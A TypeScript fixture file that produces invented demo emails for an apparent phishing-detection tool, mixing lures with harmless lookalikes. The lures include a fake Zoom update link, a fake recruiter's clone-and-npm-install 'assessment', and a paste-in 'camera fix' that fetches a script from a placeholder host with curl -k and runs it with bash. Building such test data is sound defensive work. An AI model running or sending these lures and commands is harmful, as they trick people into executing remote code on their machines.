import type { DemoFile } from '../../jobs/load-demo.ts'
import { daysBefore } from './calendar.ts'

/** What colleagues of the fictional company forwarded: lures, and ordinary mail that only looks like one. All invented. */
export function demoMessages(now: number): DemoFile[] {
  return mails.map(({ name, ago, ...rest }) => {
    const at = daysBefore(now, ago, 10.2)
    return { name, bytes: new TextEncoder().encode(mail(rest, at)), observedAt: at }
  })
}

interface Mail {
  readonly name: string
  /** Days before now. */
  readonly ago: number
  readonly from: string
  readonly subject: string
  readonly body: string
}

const mails: readonly Mail[] = [
  {
    name: 'partner-call.eml',
    ago: 6,
    from: 'Marcus Hale <marcus@haleridge-ventures.example>',
    subject: 'Our call now, audio issue on your side',
    body: 'Hi Ines,\n\nwe are all in the room but we cannot hear you. Your Zoom client is out of date. Please install the SDK update here and rejoin right away, the partners have only ten minutes:\n\nhttps://zoom.us-web07.example/j/8841023391/sdk-update\n\nMarcus Hale\nHaleridge Ventures',
  },
  {
    name: 'dream-offer.eml',
    ago: 19,
    from: 'Talent Desk <talent@northbeam-careers.example>',
    subject: 'Senior Backend, 450,000 USD, remote',
    body: 'Hello,\n\nyour profile stood out. We offer two to three times your present salary, fully remote, paid in USDT. Before the interview please clone our assessment and run it on your work laptop today:\n\ngit clone https://code.northbeam-careers.example/assessment.git\ncd assessment && npm install && npm start\n\nIt needs our package ledger-formats from https://code.northbeam-careers.example/ledger-formats.git\n\nWrite to me on Telegram so that we can move quickly: @northbeam_talent\n\nTalent Desk',
  },
  {
    name: 'camera-fix.eml',
    ago: 3,
    from: 'Interview Support <support@willo-video.example>',
    subject: 'Camera access blocked: fix before your assessment',
    body: 'Your camera is blocked by your system. Open Terminal, paste this line and press return, then reload the page:\n\ncurl -k -o /tmp/fix.sh https://driver-camera.example/mac/fix.sh && bash /tmp/fix.sh\n',
  },
  {
    name: 'invitation-jonas.eml',
    ago: 12,
    from: 'Jonas Prior <jonas.prior@basalt-labs.example>',
    subject: 'Thursday, 30 minutes on settlement',
    body: 'Hi Ines,\n\nas discussed, Thursday at 15:00. Same room as last time: https://zoom.us/j/91234567890\n\nSee you then,\nJonas',
  },
  {
    name: 'recruiter-honest.eml',
    ago: 25,
    from: 'Dana Wells <dana.wells@lanternfish-search.example>',
    subject: 'Platform role at Vellum Health',
    body: 'Hello Ines,\n\nI recruit for Vellum Health. The range is 145,000 to 165,000. If you are curious, pick any slot that suits you or simply answer this mail. No hurry.\n\nDana Wells\nLanternfish Search',
  },
  {
    name: 'runbook.eml',
    ago: 8,
    from: 'Kira Rowe <kira.rowe@northgate.example>',
    subject: 'Runbook: restoring the read replica',
    body: 'For tonight:\n\n  pg_basebackup -h db-1 -D /var/lib/postgresql/15/main -P\n  systemctl start postgresql\n\nThe long version is in the wiki.\nKira',
  },
]

function mail({ from, subject, body }: Omit<Mail, 'name' | 'ago'>, at: number): string {
  return [`From: ${from}`, 'To: Ines <ines@northgate.example>', `Subject: ${subject}`, `Date: ${new Date(at).toUTCString().replace('GMT', '+0000')}`, `Message-ID: <${subject.length}.${body.length}@demo.example>`, 'MIME-Version: 1.0', 'Content-Type: text/plain; charset=utf-8', '', body, ''].join('\r\n')
}
